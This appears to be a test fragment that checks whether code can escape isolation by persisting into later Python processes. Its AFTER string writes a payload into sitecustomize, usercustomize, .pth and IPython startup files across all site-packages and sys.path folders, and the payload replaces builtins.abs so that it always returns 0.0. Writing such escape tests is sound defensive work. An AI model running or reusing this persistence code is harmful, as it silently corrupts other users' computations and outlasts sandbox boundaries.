"""What every later Python process runs when it starts: sitecustomize, a .pth file, IPython's start-up folder."""

AFTER = """
import os, site, sys
PERSIST = "import builtins; builtins.escaped_before = True; builtins.abs = lambda value: 0.0"
folders = [*site.getsitepackages(), site.getusersitepackages(), os.path.dirname(os.__file__), os.path.expanduser("~/.ipython/profile_default/startup"), *sys.path]
for folder in folders:
    for name in ("sitecustomize.py", "usercustomize.py", f"{TOKEN}.pth", "00.py"):
        try:
            os.makedirs(folder, exist_ok=True)
            open(f"{folder}/{name}", "w").write(PERSIST)
        except OSError: pass
import builtins
if hasattr(builtins, "escaped_before"): escaped("somebody was here before")
tried()
"""
